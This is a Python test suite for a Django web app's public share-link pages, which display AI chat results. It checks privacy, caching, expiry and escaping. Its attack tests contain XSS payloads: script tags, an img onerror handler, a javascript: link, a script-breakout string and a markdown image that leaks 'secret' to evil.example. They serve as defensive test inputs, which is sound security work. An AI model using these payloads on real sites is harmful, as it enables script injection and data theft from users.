"""The page under a link: what it shows, what it never shows, and that it ends."""

import json
import struct
from datetime import timedelta

import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from tests.tools.sharing.results import finished, question
from tools import downloads
from tools.models import Conversation, Generation, Share
from tools.sharing import own
from tools.sharing.snapshot import Snapshot

pytestmark = pytest.mark.django_db
ATTACK = "\"><script>alert(1)</script><img src=x onerror='alert(2)'>"


@pytest.fixture
def stranger():
    return Client(REMOTE_ADDR="192.0.2.99")


def share(member, thing, prompt=True, days=7):
    return own.share(member.principal, thing, prompt=prompt, days=days)


def addresses(made):
    files = [reverse("shared:download", args=[made.pk, one.slug]) for one in downloads.formats_for("text")]
    return [reverse("shared:page", args=[made.pk]), reverse("shared:picture", args=[made.pk]), *files]


def shown(client, made):
    answer = client.get(reverse("shared:page", args=[made.pk]))
    assert answer.status_code == 200
    return answer.content.decode()


class TestThePage:
    def test_a_stranger_sees_the_result_the_model_and_the_settings(self, cast, chat, stranger):
        text = shown(stranger, share(cast.owner, chat(cast.owner).conversation))
        assert "<strong>an agreement</strong>" in text
        assert "What is an API?" in text
        assert "SmolLM2 135M Instruct (Apache-2.0)" in text
        for name, value in (("Temperature", "0.7"), ("Seed", "7"), ("Length at most (tokens)", "300")):
            assert f"<dt>{name}</dt><dd>{value}</dd>" in text
        assert "It may be wrong" in text
        assert 'href="/chat/?ask=What%20is%20an%20API%3F"' in text
        assert "/feedback/?page=/s/" in text

    def test_it_is_the_same_for_all_and_sets_no_cookie(self, cast, chat):
        made = share(cast.owner, chat(cast.owner).conversation)
        for member in cast:
            for address in addresses(made):
                answer = member.client.get(address)
                assert answer.status_code == 200, (member, address)
                assert not answer.cookies, (member, address)

    def test_it_is_read_only(self, cast, chat, stranger):
        for address in addresses(share(cast.owner, chat(cast.owner).conversation)):
            assert stranger.head(address).status_code == 200
            for method in ("post", "put", "patch", "delete"):
                assert getattr(stranger, method)(address).status_code == 405

    def test_no_cache_keeps_it_no_robot_takes_it_and_no_other_site_learns_of_it(self, cast, chat, stranger):
        made = share(cast.owner, chat(cast.owner).conversation)
        for address in (*addresses(made), "/s/nothing/"):
            answer = stranger.get(address)
            assert "no-store" in answer["Cache-Control"]
            assert "private" in answer["Cache-Control"]
            assert answer["X-Robots-Tag"].startswith("noindex")
            assert answer["Referrer-Policy"] == "no-referrer"
            assert answer["X-Content-Type-Options"] == "nosniff"
            assert "frame-ancestors 'none'" in answer["Content-Security-Policy"]
            assert "ETag" not in answer
        assert '<meta name="robots" content="noindex' in shown(stranger, made)
        assert "/s/" not in stranger.get("/robots.txt").content.decode()  # or nobody could read what they are told here
        assert "/s/" not in stranger.get("/sitemap.xml").content.decode()

    def test_a_link_preview_has_title_words_and_picture(self, cast, chat, stranger):
        made = share(cast.owner, chat(cast.owner).conversation)
        text = shown(stranger, made)
        assert '<meta property="og:title" content="What is an API?">' in text
        assert '<meta property="og:description" content="It is an agreement.">' in text
        assert f'<meta property="og:image" content="http://testserver/s/{made.pk}.png">' in text
        picture = stranger.get(f"/s/{made.pk}.png")
        assert picture["Content-Type"] == "image/png"
        assert struct.unpack(">II", picture.content[16:24]) == (1200, 630)

    @pytest.mark.parametrize("text", ["日本語の答えです。これは長い文です。", "🙂🙂🙂", "\x01\x1b[31m\u202e", "مرحبا"])
    def test_the_picture_is_drawn_whatever_the_script(self, cast, stranger, text):
        run = finished(cast.owner.principal.owner, [question(text)], text + ".")
        made = share(cast.owner, run)
        assert stranger.get(f"/s/{made.pk}.png").content.startswith(b"\x89PNG")
        assert "\x1b" not in Snapshot.from_json(made.snapshot).title

    def test_all_answers_of_a_run_are_shown(self, cast, stranger):
        choices = [{"text": text, "finish_reason": "stop"} for text in ("One.", "Two.")]
        run = finished(cast.owner.principal.owner, [question("Q?")], "", output={"choices": choices})
        text = shown(stranger, share(cast.owner, run))
        assert "<p>One.</p>" in text
        assert "<p>Two.</p>" in text


class TestWhatIsntShown:
    def test_without_the_prompt_it_is_nowhere_not_even_in_the_database(self, cast, chat, stranger):
        made = chat(cast.owner, ("My SECRET question", "Plain answer."), ("Another SECRET", "More."))
        for thing in (made.conversation, *made.runs):
            one = share(cast.owner, thing, prompt=False)
            assert "SECRET" not in json.dumps(one.snapshot)
            for address in addresses(one):
                assert b"SECRET" not in stranger.get(address).content

    def test_a_system_prompt_and_what_was_said_before_never_come_along(self, cast, stranger):
        messages = [
            {"role": "system", "content": "HIDDEN rules"},
            question("EARLIER question"),
            {"role": "assistant", "content": "EARLIER answer"},
            question("The last question"),
        ]
        run = finished(cast.owner.principal.owner, messages, "Fine.", inputs={"messages": messages, "stop": ["HIDDEN"]})
        made = share(cast.owner, run)
        text = shown(stranger, made)
        assert "The last question" in text
        assert "More was said before this." in text
        for secret in ("HIDDEN", "EARLIER"):
            assert secret not in json.dumps(made.snapshot)
            assert secret not in text

    def test_nothing_says_whose_it_is(self, cast, chat, stranger):
        for member in (cast.owner, cast.visitor):
            made = chat(member)
            principal = member.principal
            one = share(member, made.conversation)
            private = [
                principal.owner,
                principal.purse,
                str(made.conversation.pk),
                str(made.runs[0].pk),
                "A private name",
            ]
            private += [principal.owner.split(":")[1], principal.purse.split(":")[1]] if member is cast.visitor else []
            private += [member.user.email] if member.user else []
            for secret in private:
                assert secret not in json.dumps(one.snapshot)
                for address in addresses(one):
                    assert secret.encode() not in stranger.get(address).content, (member, secret, address)


class TestItStaysAsItWas:
    def test_later_changes_dont_come_through(self, cast, chat, stranger):
        made = chat(cast.owner)
        one = share(cast.owner, made.conversation)
        before = stranger.get(addresses(one)[3]).content
        Conversation.objects.filter(pk=made.conversation.pk).update(title="RENAMED")
        Generation.objects.filter(pk=made.runs[0].pk).update(
            name="RENAMED", output={"choices": [{"text": "CHANGED", "finish_reason": "stop"}]}, model="gone"
        )
        finished(
            cast.owner.principal.owner, [question("What is an API?"), question("LATER")], "LATER",
            conversation=made.conversation,
        )  # fmt: skip
        text = shown(stranger, one)
        assert stranger.get(addresses(one)[3]).content == before
        for word in ("RENAMED", "CHANGED", "LATER"):
            assert word not in text


class TestItsEnd:
    def test_it_ends_on_time(self, cast, chat, stranger):
        made = share(cast.owner, chat(cast.owner).conversation, days=7)
        with time_machine.travel(timezone.now() + timedelta(days=6, hours=23), tick=False):
            assert stranger.get(addresses(made)[0]).status_code == 200
        with time_machine.travel(timezone.now() + timedelta(days=7, seconds=1), tick=False):
            for address in addresses(made):
                assert stranger.get(address).status_code == 404
            assert "You have no links." in cast.visitor.client.get("/account/shares/").content.decode()

    def test_unknown_ended_and_taken_back_look_the_same(self, cast, chat, stranger):
        made = chat(cast.owner)
        ended, taken = share(cast.owner, made.conversation), share(cast.owner, made.conversation)
        Share.objects.filter(pk=ended.pk).update(expires_at=timezone.now())
        own.revoke(cast.owner.principal, taken.pk)
        bodies = set()
        for token in (ended.pk, taken.pk, "A" * 22, "nothing"):
            for rest in ("/", ".png", "/txt/", "/nonsense/"):
                answer = stranger.get(f"/s/{token}{rest}")
                assert answer.status_code == 404
                bodies.add(answer.content.split(b"<main")[1].split(b"</main>")[0])
        assert len(bodies) == 1

    def test_a_format_that_isnt_there_is_a_404(self, cast, chat, stranger):
        made = share(cast.owner, chat(cast.owner).conversation)
        assert stranger.get(f"/s/{made.pk}/srt/").status_code == 404


class TestAttacks:
    @pytest.mark.parametrize("prompt", [True, False])
    def test_markup_in_question_and_answer_stays_text_everywhere(self, cast, stranger, prompt):
        run = finished(cast.owner.principal.owner, [question(ATTACK)], ATTACK)
        made = share(cast.owner, run, prompt=prompt)
        own_pages = [
            cast.owner.client.get("/account/shares/"),
            cast.owner.client.get(f"/account/shares/new/?generation={run.pk}"),
        ]
        for page in (shown(stranger, made), *(answer.content.decode() for answer in own_pages)):
            assert "<script>alert" not in page
            assert "<img" not in page
            assert 'content=""' not in page
        assert stranger.get(f"/s/{made.pk}.png").content.startswith(b"\x89PNG")

    def test_no_picture_from_elsewhere_is_loaded(self, cast, stranger):
        answer = "![x](http://evil.example/?q=secret) [y](javascript:alert(1)) <img src=http://evil.example/2>"
        run = finished(cast.owner.principal.owner, [question("Q")], answer)
        page = shown(stranger, share(cast.owner, run))
        main = page.split("<article")[1].split("<script")[0]
        assert "<img" not in main
        assert "javascript:" not in page.split('<script id="answers"')[0].replace("[y](javascript:alert(1))", "")
        assert 'rel="nofollow noopener noreferrer"' in main

    def test_the_answers_for_the_copy_button_cant_end_their_script(self, cast, stranger):
        run = finished(cast.owner.principal.owner, [question("Q")], "</script><script>alert(1)</script>")
        assert "</script><script>alert" not in shown(stranger, share(cast.owner, run))
